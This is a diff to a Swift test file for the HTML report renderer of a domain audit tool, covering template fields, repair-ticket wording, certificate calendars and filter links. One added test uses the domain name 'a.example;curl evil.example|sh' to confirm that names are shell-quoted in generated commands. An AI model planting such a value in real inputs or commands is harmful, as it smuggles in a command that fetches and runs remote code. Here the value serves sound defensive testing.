@@ -10,29 +10,92 @@ import Transport
 @testable import Audit
 @testable import Reports
 
-/// The page as bytes; what a browser makes of it is in `HTMLPageTests`.
+/// The page as bytes; what a browser makes of it is in `Scripts/lib/browser/check_page.py`.
 @Suite struct HTMLRendererTests {
     @Test func templatesCanBeRead() throws {
         _ = try PageTemplates()
     }
 
-    /// What a template names somebody sets, and what is set a template names.
-    @Test func templatesShowWhatIsSetAndNothingElse() throws {
+    /// A page: its templates, the files and folders that set its values, and what those set that it leaves out.
+    struct PageParts {
+        var templates: [PageTemplates.Name]
+        var sources: [String]
+        var leavesOut: Set<Substring> = []
+        /// What its templates can show and it has not.
+        var lacks: Set<Substring> = []
+    }
+
+    private static let cardSources = [
+        "DomainCard", "DomainPast+Strip", "EvidenceView", "FileView", "CertificateView", "TimingView",
+    ]
+    .map { "HTML/\($0).swift" }
+    private static let firstScreenSources = ["EstateView", "StartView", "ChangesView", "TimelineView"]
+        .map { "HTML/\($0).swift" }
+    private static let siteSources = ["Site/SiteStyle.swift", "Site/SiteRow.swift", "Site/Site+Lists.swift"]
+
+    static let pages: [PageParts] = [
+        PageParts(
+            templates: [.top, .row, .card, .brief, .bottom],
+            sources: cardSources + firstScreenSources
+                + [
+                    "DomainRow", "RowKinds", "FilterView", "PageIndex", "TeamMatrix", "CertificateCalendar",
+                    "GlossaryView", "HTMLRenderer",
+                ].map { "HTML/\($0).swift" },
+            // What the site alone says.
+            leavesOut: ["causeLabel", "stepMore"]),
+        PageParts(
+            templates: [.case, .card],
+            sources: cardSources + ["HTML/CaseView.swift", "HTML/GlossaryView.swift"],
+            // What is said of a domain without script.
+            leavesOut: ["note"]),
+        PageParts(templates: [.mail], sources: ["Mail"]),
+        PageParts(
+            templates: [.siteStart, .siteSearch],
+            sources: firstScreenSources + ["HTML/PageIndex.swift", "Site/Site+Start.swift"] + siteSources,
+            // What leads to filters and tickets, which the report alone has; and what the other lists of the site show.
+            leavesOut: [
+                "all", "allID", "allLabel", "allNames", "causeCode", "causeFixer", "causeSeverity", "causeWidth",
+                "change", "changeFilter", "changeKind", "changeMessage", "changeMove", "changeStyle", "changeWord",
+                "calendar", "counts", "domainCount", "domainsHeading", "found", "heading", "listClass",
+                "matrix", "moreChanges", "moreLabel", "name", "note", "page", "pageNote", "pages", "rest", "rows",
+                "several", "startedAtRFC", "ticket", "ticketLine", "words",
+            ]),
+        PageParts(
+            templates: [.siteList], sources: siteSources + ["HTML/GlossaryView.swift"], leavesOut: ["prefix"],
+            // Another version writes the same page.
+            lacks: ["version"]),
+        PageParts(
+            templates: [.siteDomain, .card],
+            sources: cardSources + ["Site/SiteDomainPage.swift", "Site/SiteStyle.swift"],
+            leavesOut: ["note", "script"], lacks: ["version"]),
+    ]
+
+    /// What the templates of a page name somebody sets for that page, and what is set for it they show.
+    @Test(arguments: pages.indices) func pagesShowWhatIsSetAndNothingElse(_ number: Int) throws {
+        let page = Self.pages[number]
         let root = URL(filePath: #filePath).deletingLastPathComponent().appending(path: "../../../Sources/Reports")
         var (shown, set): (Set<Substring>, Set<Substring>) = ([], [])
-        for name in PageTemplates.Name.allCases {
-            shown.formUnion(PageTemplates.text(of: name).matches(of: /{{{?[#^]?([A-Za-z]+)}/).map(\.1))
+        var (templates, read) = (page.templates, Set<PageTemplates.Name>())
+        while let name = templates.popLast() {
+            guard read.insert(name).inserted else { continue }
+            let text = PageTemplates.text(of: name)
+            shown.formUnion(text.matches(of: /{{{?[#^]?([A-Za-z]+)}/).map(\.1))
+            for part in text.matches(of: /{{>([A-Za-z]+)}}/) {
+                templates.append(try #require(PageTemplates.Name(rawValue: String(part.1))))
+            }
         }
-        for folder in ["HTML", "Site", "Mail"].map({ root.appending(path: $0) }) {
-            let files = try FileManager.default.contentsOfDirectory(at: folder, includingPropertiesForKeys: nil)
+        for path in page.sources.map({ root.appending(path: $0) }) {
+            let files =
+                path.pathExtension == "swift"
+                ? [path] : try FileManager.default.contentsOfDirectory(at: path, includingPropertiesForKeys: nil)
             for file in files where file.pathExtension == "swift" {
                 let source = try String(contentsOf: file, encoding: .utf8)
                 let setter = /\.(?:text|texts|block|number|flag|list|object|markup)\(\s*"([A-Za-z]+)"/
                 set.formUnion(source.matches(of: setter).map(\.1))
             }
         }
-        #expect(shown.subtracting(set).sorted() == [])
-        #expect(set.subtracting(shown).sorted() == [])
+        #expect(shown.subtracting(set).subtracting(page.lacks).sorted() == [])
+        #expect(set.subtracting(shown).subtracting(page.leavesOut).sorted() == [])
     }
 
     @Test func isTheSameTwice() throws {
@@ -329,9 +392,46 @@ import Transport
         for name in names.1.split(separator: "\n") { #expect(ticket.contains("- \(name)&#10;")) }
         #expect(ticket.contains("Who can fix it: ") && ticket.contains("What to do, at "))
         let all = names.1.split(separator: "\n").joined(separator: " ")
-        #expect(ticket.contains("Fixed when: “aasa-audit \(all)” finds no error any more."), "\(ticket)")
+        let code = try #require(ticket.firstMatch(of: #/\[([a-z-]+)\]/#)).1
+        let proof = "Fixed when: a new run finds \(code) at none of the \(names.2) domains"
+        #expect(ticket.contains("\(proof): “aasa-audit \(all)”."), "\(ticket)")
         let many = try PageSink.page(Estate(Estate.typical(600)))
-        #expect(many.contains("Fixed when: a new run finds this at none of the 20 domains (a first look: “aasa-audit "))
+        #expect(
+            many.contains(
+                #/Fixed when: a new run finds [a-z-]+ at none of the 20 domains; for a first look: “aasa-audit /#))
+    }
+
+    /// A certificate that ends soon is no error: that there is none does not show that it was renewed.
+    @Test func aTicketIsNotFixedBeforeAnythingWasDone() throws {
+        let page = try PageSink.page(Estate((0..<3).map { Estate.warned($0) }))
+        let ticket = try #require(page.firstMatch(of: #/<summary>One ticket<\/summary><pre tabindex="0">([^<]*)</#)).1
+        #expect(
+            ticket.contains("Fixed when: a new run finds tls-certificate-expiring at none of the 3 domains: “"),
+            "\(ticket)")
+    }
+
+    /// A stored report can name a domain in any way, and the brackets of an address mean something to a shell.
+    @Test(arguments: [
+        (DomainID(host: "2001:db8::1", port: 8443), "'[2001:db8::1]:8443'"), (DomainID(host: "a.example"), "a.example"),
+        (
+            DomainID(host: "a.example", displayHost: "a.example;curl evil.example|sh"),
+            "'a.example;curl evil.example|sh'"
+        ),
+        (DomainID(host: "a.example", displayHost: "$(it's)"), #"'$(it'\''s)'"#),
+    ])
+    func aNameIsOneWordOfACommand(_ domain: DomainID, _ word: String) throws {
+        let reports = (0..<12).map { number in
+            var report = Estate.warned(number)
+            if number == 0 { report.domain = domain }
+            return report
+        }
+        #expect(RepairAdvice.check(reports[0]).hasPrefix("Run “aasa-audit \(word)” again: "))
+        for count in [2, 12] {
+            let page = try PageSink.page(Estate(Array(reports.prefix(count))))
+            let ticket = try #require(page.firstMatch(of: #/<summary>One ticket<\/summary><pre tabindex="0">([^<]*)</#))
+                .1
+            #expect(ticket.contains("“aasa-audit \(EscapedText.escape(word)) "), "\(ticket)")
+        }
     }
 
     /// A link shows the domains whose names are kept, and says how many those are.
@@ -357,6 +457,48 @@ import Transport
         #expect(page.contains("<h2>Teams</h2> <span class=\"note\">1001 teams</span>"))
         #expect(page.contains("<bdi>(no team)</bdi></th><td>2</td>"))
         #expect(page.contains("<p class=\"note\">and 952 more</p>"))
+    }
+
+    /// Whatever ends within the 60 days that the heading says is counted, the last of them, too.
+    @Test(arguments: [(59, 1), (60, 1), (61, 0)]) func theLastDayOfTheCalendarCounts(_ days: Int, _ count: Int) throws {
+        var report = Estate.well(3)
+        report.wellKnown?.exchange?.tls?.chain[0].notAfter = Samples.days(Double(days))
+        try #require(report.certificateDaysLeft == days)
+        let page = try PageSink.page(Estate([report, Estate.nonsense]))
+        #expect(page.matches(of: #/<a href="#ends=0..60"><b>1<\/b> within 60 days</#).count == count)
+        #expect(page.contains("<option value=\"0..60\">within 60 days (1)</option>") == (count == 1))
+    }
+
+    /// The numbers of the first screen have the names of the filters that they lead to.
+    @Test func oneFilterHasOneName() throws {
+        let page = try PageSink.page(Estate(Estate.kinds, hasHistory: true))
+        let links = page.matches(of: #/href="#(?:team=[^&"]*&amp;)?(ends|change)=([^"]+)"/#).map {
+            (key: $0.1, value: $0.2)
+        }
+        #expect(links.contains { $0.value == "new,returned" } && links.contains { $0.value == "..14" })
+        for (key, value) in links {
+            let control = try #require(page.firstMatch(of: try Regex("<select id=\"f-\(key)\">.*?</select>")))
+            #expect(page[control.range].contains("<option value=\"\(value)\">"), "\(key)=\(value)")
+        }
+        for link in page.matches(of: #/href="#ends=([^"]+)"><b>([^<]+)<\/b> ([^<]+)</#) {
+            #expect(page.contains("<option value=\"\(link.1)\">\(link.3) (\(link.2))</option>"), "\(link.0)")
+        }
+    }
+
+    /// Without script a link to all that could not be checked leads to the first of them.
+    @Test func allThatWasNotCheckedCanBeReachedWithoutScript() throws {
+        let page = try PageSink.page(Estate([Estate.nonsense] + (0..<5).map(Estate.nobody)))
+        #expect(page.contains("<a href=\"#status=unreachable,invalid\">All 6</a>"))
+        #expect(page.contains("<span id=\"status=unreachable,invalid\"></span>"))
+    }
+
+    /// What opens to the other repairs says their number, and what it opens to does not say it again.
+    @Test func theOtherRepairsAreCountedOnce() throws {
+        let page = try PageSink.page(Estate(Estate.kinds))
+        let rest = try #require(
+            page.firstMatch(of: #/<details class="rest"><summary>(.*?)<\/summary><bdi>(.*?)<\/bdi>/#))
+        #expect(rest.1.contains(#/^Then, \d+ more repairs?$/#), "\(rest.1)")
+        #expect(!rest.2.contains("repair"), "\(rest.2)")
     }
 
     /// The night before is not the run before where that was a run of the same day.
